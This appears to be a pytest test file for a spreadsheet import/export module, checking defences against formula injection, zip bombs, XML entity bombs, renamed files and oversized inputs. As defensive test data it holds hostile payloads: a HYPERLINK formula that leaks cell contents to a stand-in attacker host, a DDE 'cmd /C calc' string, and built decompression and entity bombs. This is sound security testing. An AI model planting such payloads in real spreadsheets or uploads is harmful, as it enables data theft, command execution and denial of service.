"""core.xlsx against hostile content (docs/hardening.md): formulas out, bombs and wrong files in, and
bounded error lists. Each test here fails on the code before the hardening."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from gridgov.core.services import ImportRejected, OmittedRows, RowError, bound_errors
from gridgov.core.views import xlsx_response
from gridgov.core.xlsx import Column, neutralise_formulas, read_sheet, write_book, write_sheet

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
COLUMNS = [Column("name", "姓名"), Column("n", "数量")]


def cells(content: bytes) -> list[list]:
    """Every cell of every sheet, as openpyxl reads it back (formula cells come back as data type f)."""
    workbook = load_workbook(io.BytesIO(content))
    return [[cell for row in sheet.iter_rows() for cell in row] for sheet in workbook.worksheets]


def sheet_xml(content: bytes) -> bytes:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))


# --- out: formula injection -------------------------------------------------------------------------------
def test_write_sheet_keeps_formula_like_text_as_text_with_quote_prefix():
    rows = [{"name": text, "n": -5} for text in HOSTILE]
    content = write_sheet("居民", COLUMNS, rows)
    assert b"<f>" not in sheet_xml(content)
    (sheet,) = cells(content)
    names = [c for c in sheet if c.column == 1 and c.row > 1]
    # the visible value is what was typed (XML reads a bare CR back as a line feed)
    assert [c.value for c in names] == [t.replace("\r", "\n") for t in HOSTILE]
    assert all(c.data_type == "s" and c.quotePrefix for c in names)
    numbers = [c for c in sheet if c.column == 2 and c.row > 1]
    assert all(c.value == -5 and c.data_type == "n" for c in numbers)  # numbers stay numbers


def test_plain_text_is_untouched_and_round_trips_through_read_sheet():
    rows = [{"name": "张三", "n": 3}, {"name": "=1+1", "n": 4}]
    content = write_sheet("居民", COLUMNS, rows)
    read = list(read_sheet(io.BytesIO(content), COLUMNS))
    assert read == [(2, {"name": "张三", "n": "3"}), (3, {"name": "=1+1", "n": "4"})]


def test_hostile_headers_sheet_titles_and_control_characters_do_not_fail_the_export():
    columns = [Column("a", "=cmd|' /C calc'!A0"), Column("b", "备注")]
    content = write_book([("a/b:c*d?[e]" * 5, columns, [{"a": "x\x00y\x07z", "b": "ok"}])])
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook.worksheets[0]
    assert len(sheet.title) <= 31 and "/" not in sheet.title
    assert sheet["A1"].value == "=cmd|' /C calc'!A0" and sheet["A1"].data_type == "s"
    assert sheet["A2"].value == "xyz"


def _workbook_with_formulas() -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["姓名", "数量"])
    sheet.append(['=HYPERLINK("http://evil")', 3])
    sheet.append(["张三", "=1+1"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def test_neutralise_formulas_turns_every_formula_cell_into_its_text():
    content = _workbook_with_formulas()
    assert b"<f>" in sheet_xml(content)  # what plain openpyxl writes (the exports before hardening)
    safe = neutralise_formulas(content)
    assert b"<f>" not in sheet_xml(safe)
    sheet = load_workbook(io.BytesIO(safe)).active
    assert sheet["A2"].value == '=HYPERLINK("http://evil")' and sheet["A2"].data_type == "s"
    assert sheet["B3"].value == "=1+1" and sheet["B3"].data_type == "s"
    assert sheet["B2"].value == 3 and sheet["A3"].value == "张三"


def test_xlsx_response_never_sends_a_formula():
    response = xlsx_response(_workbook_with_formulas(), "x.xlsx")
    assert b"<f>" not in sheet_xml(response.content)


def test_neutralise_formulas_leaves_a_clean_workbook_byte_for_byte():
    content = write_sheet("居民", COLUMNS, [{"name": "=1+1", "n": 1}])
    assert neutralise_formulas(content) is content
    assert neutralise_formulas(b"not a zip") == b"not a zip"


# --- in: wrong files, bombs, limits ----------------------------------------------------------------------
def reasons(content: bytes, columns=COLUMNS) -> list[tuple[int, str]]:
    with pytest.raises(ImportRejected) as caught:
        list(read_sheet(io.BytesIO(content), columns))
    return [(e.line, e.reason) for e in caught.value.errors]


def simple_xlsx(rows: list[list], header=("姓名", "数量")) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(header))
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 200, "图片"),
        (b"\xff\xd8\xff\xe0" + b"\x00" * 200, "图片"),
        (b"%PDF-1.7\n" + b"\x00" * 200, "PDF"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200, "旧版 Excel(.xls)"),
        ("姓名,数量\n张三,1\n".encode("gbk"), "CSV"),
        ("\ufeff姓名,数量\n张三,1\n".encode(), "CSV"),
        ("姓名,数量\n张三,1\n".encode("utf-16"), "CSV"),
    ],
    ids=["png", "jpeg", "pdf", "xls", "csv-gbk", "csv-utf8-bom", "csv-utf16"],
)
def test_a_renamed_file_is_named_for_what_it_is(content, expected):
    ((line, reason),) = reasons(content)
    assert line == 0 and expected in reason


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def test_too_many_zip_members_are_refused_before_parsing(settings):
    settings.GRIDGOV_XLSX_MAX_MEMBERS = 50
    content = _zip({f"xl/junk/{i}.xml": b"x" for i in range(60)} | {"xl/workbook.xml": b"<x/>"})
    ((_line, reason),) = reasons(content)
    assert "超过 50 个部件" in reason


def test_a_zip_bomb_is_refused_from_its_declared_size(settings):
    settings.GRIDGOV_XLSX_MAX_UNCOMPRESSED_BYTES = 5 * 2**20
    bomb = _zip({"xl/workbook.xml": b"<x/>", "xl/worksheets/sheet1.xml": b"\x00" * (6 * 2**20)})
    assert len(bomb) < 20_000  # six megabytes of zeros deflate to a few kilobytes
    ((_line, reason),) = reasons(bomb)
    assert "解压后超过 5 MB" in reason


def test_an_xml_entity_bomb_is_a_rejection_not_a_hang():
    entities = b'<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b'<!ENTITY %s "%s">' % (chr(98 + i).encode(), (b"&" + chr(97 + i).encode() + b";") * 10)
        for i in range(8)
    )  # &i; is 10**9 characters
    archive = zipfile.ZipFile(io.BytesIO(simple_xlsx([["张三", 1]])))
    members = {n: archive.read(n) for n in archive.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"]
    sheet = sheet.replace(b"<worksheet", b"<!DOCTYPE worksheet [" + entities + b"]><worksheet", 1)
    members["xl/worksheets/sheet1.xml"] = sheet.replace("张三".encode(), b"&i;")
    ((line, reason),) = reasons(_zip(members))
    assert line == 0 and "无法读取" in reason


def test_a_damaged_sheet_is_a_rejection():
    archive = zipfile.ZipFile(io.BytesIO(simple_xlsx([["张三", 1]])))
    members = {n: archive.read(n) for n in archive.namelist()}
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"][:-40]
    ((line, _reason),) = reasons(_zip(members))
    assert line == 0


def test_rows_past_the_limit_are_refused_with_their_line(settings):
    settings.GRIDGOV_IMPORT_MAX_ROWS = 10
    ((line, reason),) = reasons(simple_xlsx([[f"人{i}", i] for i in range(11)]))
    assert line == 12 and "超过 10 行数据" in reason
    # exactly the limit is fine, and so are blank formatted rows after it
    content = simple_xlsx([[f"人{i}", i] for i in range(10)] + [[None, None]] * 5)
    assert len(list(read_sheet(io.BytesIO(content), COLUMNS))) == 10


def test_columns_past_the_limit_are_not_read(settings):
    settings.GRIDGOV_IMPORT_MAX_COLUMNS = 5
    header = [f"列{i}" for i in range(10)] + ["姓名"]
    ((line, reason),) = reasons(simple_xlsx([["x"] * 11], header=header), [Column("name", "姓名", True)])
    assert line == 1 and "缺少必填列:姓名" in reason


def test_the_file_size_limit_reads_no_further_than_it(settings):
    settings.GRIDGOV_IMPORT_MAX_BYTES = 1000
    ((_line, reason),) = reasons(b"PK" + b"\x00" * 5000)
    assert "文件过大" in reason


def test_a_bom_or_zero_width_space_in_a_header_is_ignored():
    content = simple_xlsx([["张三", 1]], header=("\ufeff姓名", "数量\u200b"))
    assert list(read_sheet(io.BytesIO(content), [Column("name", "姓名", True), Column("n", "数量")])) == [
        (2, {"name": "张三", "n": "1"})
    ]


def test_chinese_text_survives_as_typed():
    text = "张三·阿不都热合曼 𠀀𪚥 龘"
    content = simple_xlsx([[text, 1]])
    assert list(read_sheet(io.BytesIO(content), COLUMNS)) == [(2, {"name": text, "n": "1"})]


# --- bounded error lists ----------------------------------------------------------------------------------
def test_errors_are_bounded_by_rows_and_say_how_many_more(settings):
    settings.GRIDGOV_IMPORT_MAX_ERROR_ROWS = 200
    errors = [RowError(line, f"错{k}", "列") for line in range(2, 50_002) for k in range(3)]
    exc = ImportRejected(errors)
    assert exc.error_count == 150_000
    assert exc.omitted_rows == 50_000 - 200
    listed = exc.errors
    assert len({e.line for e in listed if not isinstance(e, OmittedRows)}) == 200
    assert len(listed) == 200 * 3 + 1  # every error of each listed row
    assert isinstance(listed[-1], OmittedRows)
    assert listed[-1].reason == "另有 49800 行错误未列出"


def test_a_short_list_is_unchanged_and_long_reasons_are_cut():
    errors = [RowError(0, "文件级"), RowError(2, "x" * 5000, "姓名")]
    listed, omitted = bound_errors(errors)
    assert omitted == 0 and [e.line for e in listed] == [0, 2]
    assert len(listed[1].reason) == 200


def test_a_bounded_list_merged_into_another_keeps_its_count(settings):
    settings.GRIDGOV_IMPORT_MAX_ERROR_ROWS = 2
    first = ImportRejected([RowError(n, "错") for n in range(2, 7)])  # 2 listed, 3 left out
    again = ImportRejected([*first.errors, RowError(9, "库里已有")])
    assert again.omitted_rows == 4
    assert again.errors[-1].reason == "另有 4 行错误未列出"


def test_the_total_number_of_entries_is_bounded_too(settings):
    settings.GRIDGOV_IMPORT_MAX_ERRORS = 10
    exc = ImportRejected([RowError(2, f"错{k}", f"列{k}") for k in range(50)] + [RowError(3, "错")])
    assert len(exc.errors) == 11 and exc.omitted_rows == 1
